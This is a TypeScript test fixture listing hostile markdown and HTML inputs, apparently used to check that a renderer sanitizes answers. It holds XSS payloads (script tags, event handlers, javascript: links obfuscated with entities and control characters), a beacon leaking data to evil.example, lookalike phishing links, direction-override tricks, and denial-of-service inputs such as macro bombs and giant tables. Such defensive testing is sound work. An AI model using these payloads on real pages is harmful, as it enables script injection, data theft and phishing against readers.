/** Answers that try to harm the page or its reader. */

const table = (columns: number, rows: number): string =>
  [
    '| a '.repeat(columns),
    '|---'.repeat(columns),
    ...Array.from({ length: rows }, () => '| b '.repeat(columns)),
  ]
    .map((line) => `${line}|`)
    .join('\n');

/** By what they try. In each of them, running code would set the title to "harmed" or open a dialog. */
export const HOSTILE_ANSWERS: readonly (readonly [name: string, content: string])[] = [
  ['a script', '<script>document.title="harmed"</script>'],
  ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an event handler', '<img src=x onerror="document.title=\'harmed\'">'],
  [
    'an event handler in a paragraph',
    'Text <b onmouseover=alert(1)>bold</b> <details open ontoggle=alert(1)>x</details>',
  ],
  [
    'a frame',
    '<iframe srcdoc="<script>parent.document.title=\'harmed\'</script>"></iframe>\n\n<object data="x"></object>',
  ],
  [
    'a form',
    '<form action="https://evil.example"><input name=a autofocus onfocus=alert(1)><button>Send</button></form>',
  ],
  ['a style', '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>'],
  [
    'a base',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  ],
  [
    'SVG',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></animate><use href="data:,x"/></svg>',
  ],
  ['MathML', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  [
    'mutated markup',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><!--><img src=x onerror=alert(1)>-->',
  ],
  [
    'a template',
    '<template><script>alert(1)</script></template><![CDATA[<script>alert(1)</script>]]><?php x ?>',
  ],
  [
    'a javascript link',
    '[a](javascript:document.title="harmed") [b](JaVaScRiPt:alert(1)) [c]( javascript:alert(1) )',
  ],
  [
    'a javascript link in entities',
    '[a](javascript&#58;alert(1)) [b](&#x6A;avascript:alert(1)) [c](java&Tab;script&colon;alert&lpar;1&rpar;)',
  ],
  [
    'a javascript link with control characters',
    '[a](\u0001javascript:alert(1)) [b](java\tscript:alert(1)) [c](<java\u00ADscript:alert(1)>)',
  ],
  ['a javascript address', '<javascript:alert(1)> <JAVASCRIPT:alert(1)> javascript:alert(1)'],
  ['a javascript reference', '[a][x] [x]\n\n[x]: javascript:alert(1) "title"'],
  [
    'a data link',
    '[a](data:text/html,<script>alert(1)</script>) [b](data:text/html;base64,PHNjcmlwdD4=) [c](blob:x)',
  ],
  [
    'a vbscript link',
    '[a](vbscript:msgbox(1)) [b](VBScript&#x3a;x) [c](view-source:javascript:x) [d](file:///etc/passwd)',
  ],
  [
    'a link out of its attribute',
    '[a](https://e.example/"onmouseover="alert(1)) [b](https://e.example "x\\" onclick=\\"alert(1)")',
  ],
  [
    'a title with markup',
    '[a](https://e.example "<script>alert(1)</script>") ![<img onerror=alert(1)>](https://e.example/x)',
  ],
  [
    'a picture',
    '![a](https://evil.example/leak?q=secret) ![b][c] [![d](https://evil.example/x.png)](https://evil.example)\n\n[c]: https://evil.example/c.png',
  ],
  [
    'a link that looks like another one',
    '[https://bank.example](https://evil.example) https://bank.example@evil.example [bank.example](//evil.example)',
  ],
  [
    'entities',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#0; &#xD800; &#x110000; &#9999999; &unknown;',
  ],
  ['entities in code', '`&lt;script&gt;` \n\n    &lt;script&gt;alert(1)&lt;/script&gt;'],
  ['brackets', `${'['.repeat(3000)}a${']('.repeat(3000)}x${')'.repeat(3000)}`],
  ['links in links', `${'[a'.repeat(500)}](https://e.example)${'](https://e.example)'.repeat(499)}`],
  [
    'direction overrides',
    'User\u202Ecod.exe\u202C [\u202Emoc.knab](https://evil.example) `if (a\u202E\u2066) {`\n\n```js\n/*\u202E } \u2066if (isAdmin)\u2069 \u2066 */\n```',
  ],
  [
    'zalgo',
    `Z${'\u0300\u0301\u0302\u0303\u0304'.repeat(400)}algo **b${'\u035B'.repeat(2000)}** [c${'\u0336'.repeat(900)}](https://e.example)`,
  ],
  [
    'zero width',
    `a${'\u200B\u200C\u200D\uFEFF\u2060'.repeat(3000)}b [\u200B](https://evil.example) [p\u200Ba](https://e.example)`,
  ],
  ['a wide table', table(200, 20)],
  ['a giant table', table(200, 5000)],
  ['a table of empty rows', `${'|a'.repeat(5000)}|\n${'|-'.repeat(5000)}|\n${'|\n'.repeat(20_000)}`],
  ['100 KB of code', `\`\`\`js\n${'const a = "b"; // c\n'.repeat(5200)}\`\`\``],
  ['99 KB of code without a line break', `\`\`\`json\n${'{"a":['.repeat(14_000)}\n\`\`\``],
  [
    'code of an unknown language',
    '```"><script>alert(1)</script>\nx\n```\n\n```__proto__\ny\n```\n\n```constructor\nz\n```',
  ],
  ['markup in code', '```html\n</code></pre><script>alert(1)</script><img src=x onerror=alert(1)>\n```'],
  ['an unclosed fence', '````md\n```\n</pre><script>alert(1)</script>\n'],
  ['10,000 quotes in each other', `${'> '.repeat(10_000)}x`],
  ['10,000 lists in each other', `${'- '.repeat(10_000)}x`],
  [
    'lists that go deeper with each line',
    Array.from({ length: 400 }, (_, at) => `${'  '.repeat(at)}- x`).join('\n'),
  ],
  ['10,000 short quotes and lists', '> - a\n'.repeat(10_000)],
  ['emphasis in emphasis', `${'*a **b '.repeat(3000)}${'c** d* '.repeat(3000)}`],
  ['1 MB of one word', 'x'.repeat(1_000_000)],
  ['a line of bars', `${'|'.repeat(100_000)}\n${'-|'.repeat(50_000)}`],
  [
    'prototype names',
    '[__proto__] [constructor][toString] [^__proto__] [a][__proto__]\n\n[__proto__]: https://e.example\n[^constructor]: note',
  ],
  [
    'footnotes',
    `${'a[^1] '.repeat(2000)}\n\n[^1]: <img src=x onerror=alert(1)> [b](javascript:alert(1)) [^1]\n[^x"onclick=alert(1)]: c`,
  ],
  ['a loop of macros', '$$\\def\\a{\\a\\a}\\a$$ \n\n$\\newcommand{\\b}{\\b}\\b$ \\(\\edef\\c{\\c}\\c\\)'],
  [
    'a bomb of macros',
    `$$${'abcdefgh'.replaceAll(/./g, (at) => `\\def\\x${at}{${`\\x${String.fromCharCode(at.charCodeAt(0) + 1)}`.repeat(10)}}`)}\\xa$$`,
  ],
  ['huge math', `$$\\rule{9999em}{9999em} \\kern{9999em} ${'\\frac{1}{'.repeat(300)}x${'}'.repeat(300)}$$`],
  [
    'links and styles in math',
    '$\\href{javascript:alert(1)}{x}$ $\\url{https://evil.example}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlStyle{position:fixed}{x}$ $\\fcolorbox{red}{blue}{x}$ $\\htmlData{a=b}{x}$',
  ],
  ['formulas without an end', `${'\\( '.repeat(5000)}${'$$ '.repeat(5001)}${'\\[ '.repeat(5000)}`],
  ['definitions', Array.from({ length: 3000 }, (_, at) => `[a${at}]: https://e.example/${at} '\n`).join('')],
  [
    'control characters',
    `a\u0000b\u0007c\u001B[31mred\u001B]8;;https://evil.example\u0007x \uD800 \uDFFF \uFFFE`,
  ],
];
